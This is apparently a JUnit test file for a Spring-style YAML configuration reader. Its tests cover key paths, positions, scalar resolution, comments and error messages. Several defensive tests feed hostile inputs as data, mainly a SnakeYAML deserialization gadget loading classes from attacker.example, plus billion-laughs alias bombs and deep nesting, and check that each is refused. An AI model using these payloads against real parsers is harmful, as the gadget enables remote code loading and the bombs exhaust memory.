package io.github.mailports.config;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.ArrayList;
import java.util.List;

import io.github.mailports.testing.Work;
import org.junit.jupiter.api.Test;

import static io.github.mailports.config.Entries.assertAt;
import static io.github.mailports.config.Entries.entry;
import static io.github.mailports.config.Entries.keys;

class YamlReaderTest {

    private static ConfigFile read(String text) throws ConfigParseException {
        return YamlReader.read("src/main/resources/application.yml", text);
    }

    private static ConfigParseException fails(String text) {
        return assertThrows(ConfigParseException.class, () -> read(text));
    }

    @Test
    void nestedMappingsWithPositions() throws Exception {
        ConfigFile f = read("spring:\n"
                + "  mail:\n"
                + "    host: smtp.example.com\n"
                + "    port:   465\n"
                + "    username:\n"
                + "      \"user@example.com\"\n");
        assertEquals(ConfigFormat.YAML, f.format());
        assertEquals(List.of("spring.mail.host", "spring.mail.port", "spring.mail.username"), keys(f));
        assertEquals("smtp.example.com", entry(f, "spring.mail.host").value());
        assertAt(entry(f, "spring.mail.host"), 3, 5, 3, 11);
        assertEquals("465", entry(f, "spring.mail.port").value());
        assertAt(entry(f, "spring.mail.port"), 4, 5, 4, 13);
        assertEquals("user@example.com", entry(f, "spring.mail.username").value());
        assertAt(entry(f, "spring.mail.username"), 5, 5, 6, 7);
        assertEquals(1, f.documentCount());
    }

    @Test
    void dottedKeysAreAppendedAsWritten() throws Exception {
        ConfigFile f = read("spring.mail:\n  properties:\n    mail.smtp.auth: true\n    mail.smtp:\n      starttls.enable: on\n");
        assertEquals(List.of("spring.mail.properties.mail.smtp.auth", "spring.mail.properties.mail.smtp.starttls.enable"),
                keys(f));
        assertEquals("true", f.entries().get(1).value());
    }

    @Test
    void quotedBracketKeysAreAppendedWithoutADot() throws Exception {
        ConfigFile f = read("spring:\n"
                + "  mail:\n"
                + "    properties:\n"
                + "      \"[mail.smtp.connectiontimeout]\": 5000\n"
                + "      '[mail.smtp.ssl.trust]': \"*\"\n");
        assertEquals(List.of("spring.mail.properties[mail.smtp.connectiontimeout]",
                "spring.mail.properties[mail.smtp.ssl.trust]"), keys(f));
        assertEquals("5000", f.entries().get(0).value());
        assertAt(f.entries().get(0), 4, 7, 4, 40);
        assertEquals("*", f.entries().get(1).value());
    }

    @Test
    void sequencesAreIndexed() throws Exception {
        ConfigFile f = read("hosts:\n"
                + "  - a.example.com\n"
                + "  - b.example.com\n"
                + "servers:\n"
                + "  - host: c\n"
                + "    port: 25\n"
                + "  - host: d\n"
                + "flow: [x, 'y']\n");
        assertEquals(List.of("hosts[0]", "hosts[1]", "servers[0].host", "servers[0].port", "servers[1].host", "flow[0]",
                "flow[1]"), keys(f));
        assertAt(entry(f, "hosts[1]"), 3, 5, 3, 5);
        assertEquals("b.example.com", entry(f, "hosts[1]").value());
        assertAt(entry(f, "servers[0].port"), 6, 5, 6, 11);
        assertEquals("y", entry(f, "flow[1]").value());
        assertAt(entry(f, "flow[1]"), 8, 11, 8, 11);
    }

    @Test
    void emptyCollections() throws Exception {
        // Spring: an empty mapping gives nothing, an empty sequence gives the key with ""
        ConfigFile f = read("a: {}\nb: []\nc:\n  d: {}\n");
        assertEquals(List.of("b"), keys(f));
        assertEquals("", entry(f, "b").value());
        assertAt(entry(f, "b"), 2, 1, 2, 4);
    }

    @Test
    void yaml11BooleansAsSnakeYamlResolvesThem() throws Exception {
        ConfigFile f = read("a: on\nb: Off\nc: yes\nd: NO\ne: True\nf: y\ng: n\nh: \"on\"\ni: 'yes'\nj: !!str on\nk: !!bool \"on\"\n");
        assertEquals("true", entry(f, "a").value());
        assertEquals("false", entry(f, "b").value());
        assertEquals("true", entry(f, "c").value());
        assertEquals("false", entry(f, "d").value());
        assertEquals("true", entry(f, "e").value());
        // SnakeYAML 2.x's BOOL pattern has no y/n
        assertEquals("y", entry(f, "f").value());
        assertEquals("n", entry(f, "g").value());
        // quoted scalars keep their text
        assertEquals("on", entry(f, "h").value());
        assertEquals("yes", entry(f, "i").value());
        assertEquals("on", entry(f, "j").value());
        assertEquals("true", entry(f, "k").value());
    }

    @Test
    void yaml11IntegersBecomeDecimal() throws Exception {
        ConfigFile f = read("a: 0x1D1\nb: 0465\nc: 0b101\nd: 1_000\ne: +25\nf: -0x10\ng: 1:30\nh: 09\ni: \"0x1D1\"\n"
                + "j: 123456789012345678901234567890\nk: 0\nl: 1.5\n");
        assertEquals("465", entry(f, "a").value());
        assertEquals("309", entry(f, "b").value());
        assertEquals("5", entry(f, "c").value());
        assertEquals("1000", entry(f, "d").value());
        assertEquals("25", entry(f, "e").value());
        assertEquals("-16", entry(f, "f").value());
        assertEquals("90", entry(f, "g").value());
        assertEquals("09", entry(f, "h").value());
        assertEquals("0x1D1", entry(f, "i").value());
        assertEquals("123456789012345678901234567890", entry(f, "j").value());
        assertEquals("0", entry(f, "k").value());
        assertEquals("1.5", entry(f, "l").value());
    }

    @Test
    void nullsBecomeEmptyStrings() throws Exception {
        ConfigFile f = read("a: ~\nb: null\nc:\nd: NULL\ne: \"null\"\n");
        assertEquals("", entry(f, "a").value());
        assertEquals("", entry(f, "b").value());
        assertEquals("", entry(f, "c").value());
        assertAt(entry(f, "c"), 3, 1, 3, 3);
        assertEquals("", entry(f, "d").value());
        assertEquals("null", entry(f, "e").value());
    }

    @Test
    void datesStayStringsLikeSpringBootsResolver() throws Exception {
        assertEquals("2024-01-31", entry(read("d: 2024-01-31\n"), "d").value());
    }

    @Test
    void nonStringKeysAreBracketedLikeSpringsYamlProcessor() throws Exception {
        ConfigFile f = read("codes:\n  1: one\n  on: yes\n");
        assertEquals(List.of("codes[1]", "codes[true]"), keys(f));
    }

    @Test
    void blockScalars() throws Exception {
        ConfigFile f = read("a: |\n  line1\n  line2\nb: >-\n  folded\n  text\n");
        assertEquals("line1\nline2\n", entry(f, "a").value());
        assertEquals("folded text", entry(f, "b").value());
        assertAt(entry(f, "a"), 1, 1, 1, 4);
    }

    @Test
    void multiDocumentPositionsAreFileGlobal() throws Exception {
        ConfigFile f = read("spring:\n  mail:\n    host: a\n---\nspring:\n  config:\n    activate:\n      on-profile: prod\n"
                + "  mail:\n    host: b\n---\n# only a comment\n---\nx: 1\n");
        assertEquals(4, f.documentCount());
        ConfigEntry second = f.entries().get(2);
        assertEquals("spring.mail.host", second.key());
        assertEquals("b", second.value());
        assertEquals(1, second.document());
        assertAt(second, 10, 5, 10, 11);
        assertEquals(0, f.entries().get(0).document());
        assertEquals(1, entry(f, "spring.config.activate.on-profile").document());
        assertEquals(3, entry(f, "x").document());
        assertTrue(f.document(2).isEmpty());
        assertAt(entry(f, "x"), 14, 1, 14, 4);
    }

    @Test
    void emptyFilesHaveOneDocument() throws Exception {
        assertEquals(1, read("").documentCount());
        assertEquals(1, read("# nothing\n").documentCount());
        assertTrue(read("").entries().isEmpty());
        assertEquals(2, read("---\n---\n").documentCount());
    }

    @Test
    void aDocumentThatIsNotAMappingIsTheKeyDocument() throws Exception {
        ConfigFile f = read("just text\n---\n- a\n- b\n---\n\"\"\n");
        assertEquals(List.of("document", "document[0]", "document[1]"), keys(f));
        assertEquals("just text", f.entries().get(0).value());
        assertEquals(3, f.documentCount());
    }

    @Test
    void byteOrderMarkIsSkipped() throws Exception {
        ConfigFile f = read("\uFEFFspring:\n  mail:\n    port: 587\n");
        assertAt(entry(f, "spring.mail.port"), 3, 5, 3, 11);
        assertEquals("587", entry(f, "spring.mail.port").value());
    }

    @Test
    void columnsCountJavaChars() throws Exception {
        ConfigFile f = read("ключ: значение\n😀: v\nx: \"😀😀\"\ny: z\nw: a\tb\t# tab\n");
        assertAt(entry(f, "ключ"), 1, 1, 1, 7);
        assertAt(entry(f, "😀"), 2, 1, 2, 5);
        assertAt(entry(f, "x"), 3, 1, 3, 4);
        assertAt(entry(f, "y"), 4, 1, 4, 4);
        assertEquals("a\tb", entry(f, "w").value());
        assertAt(entry(f, "w"), 5, 1, 5, 4);
        assertEquals(1, f.comments().size());
        assertEquals(8, f.comments().get(0).column());
    }

    @Test
    void crlfLineEndings() throws Exception {
        ConfigFile f = read("a:\r\n  b: 1\r\n  c: 2 # note\r\n");
        assertAt(entry(f, "a.c"), 3, 3, 3, 6);
        assertEquals(1, f.comments().size());
        assertEquals("note", f.comments().get(0).text());
        assertEquals(3, f.comments().get(0).line());
    }

    @Test
    void mergeKeys() throws Exception {
        ConfigFile f = read("defaults: &defaults\n"
                + "  host: smtp.example.com\n"
                + "  port: 25\n"
                + "extra: &extra\n"
                + "  port: 2525\n"
                + "  protocol: smtp\n"
                + "spring:\n"
                + "  mail:\n"
                + "    <<: [*defaults, *extra]\n"
                + "    port: 465\n");
        assertEquals(List.of("defaults.host", "defaults.port", "extra.port", "extra.protocol", "spring.mail.host",
                "spring.mail.port", "spring.mail.protocol"), keys(f));
        assertEquals("465", entry(f, "spring.mail.port").value());
        assertAt(entry(f, "spring.mail.port"), 10, 5, 10, 11);
        // merged entries point where they were written
        assertEquals("smtp.example.com", entry(f, "spring.mail.host").value());
        assertAt(entry(f, "spring.mail.host"), 2, 3, 2, 9);
        assertEquals("smtp", entry(f, "spring.mail.protocol").value());
    }

    @Test
    void firstMergedMappingWins() throws Exception {
        ConfigFile f = read("m:\n  <<: {a: 1}\n  <<: {a: 2, b: 3}\n");
        assertEquals("1", entry(f, "m.a").value());
        assertEquals("3", entry(f, "m.b").value());
    }

    @Test
    void aliasesRepeatTheAnchoredValue() throws Exception {
        ConfigFile f = read("a: &h smtp.example.com\nb: *h\n");
        assertEquals("smtp.example.com", entry(f, "b").value());
        assertAt(entry(f, "b"), 2, 1, 1, 4);
    }

    // ------------------------------------------------------------------ errors

    @Test
    void duplicateKeyIsAnErrorAtTheSecondKey() {
        ConfigParseException e = fails("spring:\n  mail:\n    host: a\n    port: 25\n    host: b\n");
        assertEquals("duplicate key", e.getMessage());
        assertEquals(5, e.line());
        assertEquals(5, e.column());
    }

    @Test
    void duplicateKeysCompareAsConstructedKeys() {
        ConfigParseException e = fails("m:\n  on: 1\n  true: 2\n");
        assertEquals(3, e.line());
        ConfigParseException hex = fails("m:\n  1: a\n  0x1: b\n");
        assertEquals(3, hex.line());
        ConfigParseException quoted = fails("m:\n  a: 1\n  \"a\": 2\n");
        assertEquals(3, quoted.line());
        ConfigParseException third = fails("m:\n  a: 1\n  b: 2\n  'b': 3\n");
        assertEquals(4, third.line());
        assertEquals(3, third.column());
    }

    @Test
    void keysThatConstructToDifferentValuesAreNoDuplicates() throws Exception {
        // a quoted "1" is a string, a plain 1 an integer; "true" and true likewise: SnakeYAML builds two keys
        ConfigFile f = read("m:\n  \"1\": a\n  1: b\n  \"true\": c\n  true: d\n");
        assertEquals(4, f.entries().size());
    }

    @Test
    void sameKeyInDifferentDocumentsOrMappingsIsFine() throws Exception {
        ConfigFile f = read("a:\n  host: x\nb:\n  host: y\n---\na:\n  host: z\n");
        assertEquals(3, f.entries().size());
    }

    @Test
    void malformedYamlReportsPositionWithoutQuotingTheLine() {
        ConfigParseException e = fails("spring:\n  mail:\n    password: hunter2secret: oops\n");
        assertEquals(3, e.line());
        assertEquals(28, e.column());
        assertFalse(e.getMessage().contains("hunter2secret"), e.getMessage());
        assertFalse(e.getMessage().contains("password"), e.getMessage());
        assertTrue(e.getMessage().contains("mapping values are not allowed here"), e.getMessage());

        ConfigParseException unterminated = fails("spring:\n  mail:\n    password: \"hunter2secret\n    host: x\n");
        assertFalse(unterminated.getMessage().contains("hunter2secret"), unterminated.getMessage());
        assertTrue(unterminated.line() >= 3);

        ConfigParseException badEscape = fails("password: \"abc\\xZQsecret\"\n");
        assertFalse(badEscape.getMessage().contains("ZQ"), badEscape.getMessage());
        assertEquals(1, badEscape.line());
    }

    @Test
    void indentationErrorHasAPosition() {
        ConfigParseException e = fails("a:\n  b: 1\n c: 2\n");
        assertEquals(3, e.line());
    }

    /** Set if anything ever constructs it. */
    static volatile boolean constructed;

    public static final class Boom {
        public Boom() {
            constructed = true;
        }
    }

    @Test
    void javaTypeTagsConstructNothing() {
        constructed = false;
        ConfigParseException e = fails("spring:\n  mail:\n    host: !!javax.script.ScriptEngineManager "
                + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]\n");
        assertEquals(3, e.line());
        assertEquals(11, e.column());
        ConfigParseException boom = fails("a: !!io.github.mailports.config.YamlReaderTest$Boom {}\n");
        assertEquals(1, boom.line());
        assertFalse(constructed);
        ConfigParseException local = fails("a: !secret value\n");
        assertTrue(local.getMessage().contains("unsupported YAML tag"), local.getMessage());
        assertEquals(4, local.column());
    }

    @Test
    void billionLaughsEndsQuickly() {
        StringBuilder b = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        char previous = 'a';
        for (char c = 'b'; c <= 'i'; c++) {
            b.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                b.append(i == 0 ? "" : ",").append('*').append(previous);
            }
            b.append("]\n");
            previous = c;
        }
        // refused at the alias limit: well under a megabyte, where expanding it would allocate gigabytes
        ConfigParseException e = Work.atMost("billion laughs", 16L << 20, () -> fails(b.toString())).result;
        assertTrue(e.getMessage().contains("alias"), e.getMessage());
    }

    @Test
    void aliasBombWithinTheAliasLimitHitsTheEntryLimit() {
        // 25 levels of 2 aliases: 50 aliases, 2^25 leaves
        StringBuilder b = new StringBuilder("l0: &l0 [x, y]\n");
        for (int i = 1; i <= 25; i++) {
            b.append("l").append(i).append(": &l").append(i).append(" [*l").append(i - 1).append(", *l").append(i - 1)
                    .append("]\n");
        }
        // the entry limit stops it after about 180 MB of allocation; the 2^25 leaves would need several GB
        ConfigParseException e = Work.atMost("alias bomb", 1L << 30, () -> fails(b.toString())).result;
        assertTrue(e.getMessage().contains("alias bomb"), e.getMessage());
    }

    @Test
    void aliasBombOfEmptyMappingsHitsTheNodeLimit() {
        StringBuilder b = new StringBuilder("l0: &l0 [{}, {}]\n");
        for (int i = 1; i <= 25; i++) {
            b.append("l").append(i).append(": &l").append(i).append(" [*l").append(i - 1).append(", *l").append(i - 1)
                    .append("]\n");
        }
        // the node limit stops it after about 320 to 370 MB of allocation; 2^26 empty mappings would need several GB
        Work.atMost("alias bomb of empty mappings", 1L << 30, () -> fails(b.toString()));
    }

    @Test
    void deepNestingIsAnErrorNotAStackOverflow() {
        StringBuilder flow = new StringBuilder("a: ");
        for (int i = 0; i < 10_000; i++) {
            flow.append('[');
        }
        for (int i = 0; i < 10_000; i++) {
            flow.append(']');
        }
        ConfigParseException e = Work.atMost("flow nesting", 16L << 20, () -> fails(flow.toString())).result;
        assertEquals("nesting deeper than 100 levels", e.getMessage());

        StringBuilder block = new StringBuilder();
        for (int i = 0; i < 10_000; i++) {
            for (int j = 0; j < i; j++) {
                block.append(' ');
            }
            block.append('k').append(i).append(":\n");
        }
        // 50 MB of indentation: about 5 bytes allocated per character, linear (a rescan per line would be quadratic)
        ConfigParseException blockError = Work.atMost("block nesting", 16L * block.length(), () -> fails(block.toString())).result;
        assertEquals("nesting deeper than 100 levels", blockError.getMessage());
    }

    @Test
    void recursiveAliasIsAnError() {
        ConfigParseException e = fails("a: &a [1, *a]\n");
        assertTrue(e.getMessage().contains("recursive"), e.getMessage());
        ConfigParseException merge = fails("a: &a\n  b: 1\n  <<: *a\n");
        assertTrue(merge.getMessage().contains("recursive"), merge.getMessage());
    }

    @Test
    void nonScalarKeyIsAnError() {
        ConfigParseException e = fails("? [a, b]\n: value\n");
        assertEquals(1, e.line());
        assertEquals(3, e.column());
        ConfigParseException nullKey = fails("a:\n  ~: 1\n");
        assertEquals(2, nullKey.line());
    }

    @Test
    void undefinedAliasIsAnError() {
        ConfigParseException e = fails("a: *nope\n");
        assertEquals(1, e.line());
        assertEquals(4, e.column());
    }

    @Test
    void badMergeValueIsAnError() {
        ConfigParseException e = fails("a:\n  <<: 1\n");
        assertEquals(2, e.line());
        assertEquals(7, e.column());
    }

    // ------------------------------------------------------------------ comments

    @Test
    void commentScan() throws Exception {
        ConfigFile f = read("# top comment\n"
                + "spring:\n"
                + "  mail:\n"
                + "    # expect: MP003\n"
                + "    port: 465   # implicit TLS\n"
                + "    password: \"pa#ss # not a comment\"\n"
                + "    user: 'it''s # not either' # but this is\n"
                + "    host: smtp#1.example.com\n"
                + "    text: |  # header comment\n"
                + "      # inside the block scalar\n"
                + "      more\n"
                + "    # after the block\n"
                + "    multi: \"first\n"
                + "      # still inside quotes\"\n");
        List<Comment> c = f.comments();
        assertEquals(6, c.size(), c.toString());
        assertEquals("top comment", c.get(0).text());
        assertEquals(1, c.get(0).line());
        assertEquals(1, c.get(0).column());
        assertTrue(c.get(0).ownLine());
        assertEquals("expect: MP003", c.get(1).text());
        assertEquals(4, c.get(1).line());
        assertEquals(5, c.get(1).column());
        assertTrue(c.get(1).ownLine());
        assertEquals("implicit TLS", c.get(2).text());
        assertEquals(5, c.get(2).line());
        assertEquals(17, c.get(2).column());
        assertFalse(c.get(2).ownLine());
        assertEquals("but this is", c.get(3).text());
        assertEquals(7, c.get(3).line());
        assertFalse(c.get(3).ownLine());
        assertEquals("header comment", c.get(4).text());
        assertEquals(9, c.get(4).line());
        assertEquals("after the block", c.get(5).text());
        assertEquals(12, c.get(5).line());
        assertEquals("pa#ss # not a comment", entry(f, "spring.mail.password").value());
        assertEquals("smtp#1.example.com", entry(f, "spring.mail.host").value());
        assertEquals("# inside the block scalar\nmore\n", entry(f, "spring.mail.text").value());
    }

    @Test
    void commentsAroundDocumentMarkers() throws Exception {
        ConfigFile f = read("a: 1\n--- # second document\nb: 2\n");
        assertEquals(1, f.comments().size());
        assertEquals("second document", f.comments().get(0).text());
        assertEquals(5, f.comments().get(0).column());
        assertFalse(f.comments().get(0).ownLine());
    }

    @Test
    void mavenFilteringTokensAtTheStartOfAPlainScalarAreReadWithTheirPositions() throws Exception {
        // shape of dromara/RuoYi-Vue-Plus 098d334, ruoyi-admin/src/main/resources/application.yml
        ConfigFile f = read("logging:\n  level:\n    org.dromara: @logging.level@\n"
                + "spring:\n  profiles:\n    active: @profiles.active@\n"
                + "  mail:\n    port: @mail.port@ # filtered by Maven\n"
                + "    host: '@mail.host@'\n"
                + "    list: [@a@, {k: @b@}]\n"
                + "    items:\n      - @c@,tail\n"
                + "    @key.name@: v\n"
                + "    text: |\n      @kept@ in a block\n"
                + "    mail: user@example.com\n");
        Entries.assertEntry(f, "logging.level.org.dromara", "@logging.level@", 3, 5, 3, 18);
        Entries.assertEntry(f, "spring.profiles.active", "@profiles.active@", 6, 5, 6, 13);
        Entries.assertEntry(f, "spring.mail.port", "@mail.port@", 8, 5, 8, 11);
        Entries.assertEntry(f, "spring.mail.host", "@mail.host@", 9, 5, 9, 11);
        Entries.assertEntry(f, "spring.mail.list[0]", "@a@", 10, 12, 10, 12);
        Entries.assertEntry(f, "spring.mail.list[1].k", "@b@", 10, 18, 10, 21);
        assertEquals("@c@,tail", entry(f, "spring.mail.items[0]").value());
        Entries.assertEntry(f, "spring.mail.@key.name@", "v", 13, 5, 13, 17);
        assertEquals("@kept@ in a block\n", entry(f, "spring.mail.text").value());
        assertEquals("user@example.com", entry(f, "spring.mail.mail").value());
        assertEquals(1, f.comments().size());
        assertEquals("filtered by Maven", f.comments().get(0).text());
        assertEquals(8, f.comments().get(0).line());

        // a private-use character of the file's own is never taken for the stand-in
        ConfigFile own = read("a: \uE000x\nb: @t@\n");
        assertEquals("\uE000x", entry(own, "a").value());
        assertEquals("@t@", entry(own, "b").value());
        // '@' that does not open a token is still YAML's reserved indicator
        assertTrue(fails("a: @not a token\n").getMessage().contains("@"));
    }

    @Test
    void problemsThatQuoteANameOfTheFileDoNotQuoteIt() {
        // found by the fuzz campaign: the canary password written into an alias name came back in the message
        String undefined = fails("a: *S3cretAlias\n").getMessage();
        assertTrue(undefined.contains("found undefined alias"), undefined);
        assertFalse(undefined.contains("S3cretAlias"), undefined);
    }

    @Test
    void globalTagErrorsDoNotQuoteTheTag() {
        String[] docs = {"a: !!javax.script.ScriptEngineManager [x]\n", "a: !<tag:evil.example,2000:SECRET> x\n",
                "a: !SECRET x\n", "%TAG !e! tag:SECRET.example,2000:\n---\na: !e!foo x\n", "a: !!python/object:SECRET x\n"};
        for (String doc : docs) {
            ConfigParseException e = fails(doc);
            assertFalse(e.getMessage().contains("SECRET"), e.getMessage());
            assertFalse(e.getMessage().contains("javax"), e.getMessage());
        }
        assertTrue(fails("a: !!set x\n").getMessage().contains("!!set"), "a standard tag is named");
    }

    @Test
    void numbersAreNeverConvertedBeyondABound() throws Exception {
        String digits = "7".repeat(200_000);
        assertEquals(digits, entry(read("a: !!int " + digits + "\n"), "a").value());
        assertEquals("-" + digits, entry(read("a: -" + digits + "\n"), "a").value());
        assertEquals("12", entry(read("a: +1_2\n"), "a").value());
        assertEquals("0", entry(read("a: -0\n"), "a").value());
        assertEquals("31", entry(read("a: 0x1F\n"), "a").value());
        assertEquals("15", entry(read("a: 017\n"), "a").value());
        assertEquals("5", entry(read("a: 0b101\n"), "a").value());
        assertEquals("90", entry(read("a: 1:30\n"), "a").value());
        String hex = "0x" + "f".repeat(100_000);
        assertEquals(hex, entry(read("a: " + hex + "\n"), "a").value(), "kept as written: no port is that long");
        assertTrue(fails("a: !!int 12x\n").getMessage().contains("invalid integer"));
    }

    @Test
    void tooManyNodesIsAnErrorAtTheFirstNodeOver() {
        StringBuilder b = new StringBuilder("k:\n");
        for (int i = 0; i < YamlReader.MAX_NODES; i++) b.append("- a\n");
        ConfigParseException e = fails(b.toString());
        assertTrue(e.getMessage().contains("more than " + YamlReader.MAX_NODES + " YAML nodes"), e.getMessage());
        assertEquals(YamlReader.MAX_NODES + 1, e.line()); // k: is the first node, a sequence counts once complete
        assertEquals(3, e.column());
    }
}
